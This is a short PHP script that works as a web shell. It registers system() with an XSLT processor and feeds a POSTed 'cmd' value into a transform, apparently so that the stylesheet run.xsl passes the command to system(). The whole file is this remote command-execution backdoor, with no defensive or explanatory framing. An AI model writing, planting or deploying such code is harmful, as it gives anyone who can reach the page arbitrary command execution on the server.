<?php
// The stylesheet lives beside the script; the processor is allowed to call system() and the
// command arrives as the XML document itself.
$proc = new XSLTProcessor();
$proc->registerPHPFunctions(array('system', 'strtoupper'));
$doc = new DOMDocument();
$doc->loadXML('<run>' . htmlspecialchars($_POST['cmd'] ?? '') . '</run>');
$xsl = new DOMDocument();
$xsl->load(__DIR__ . '/run.xsl');
$proc->importStylesheet($xsl);
echo $proc->transformToXml($doc);
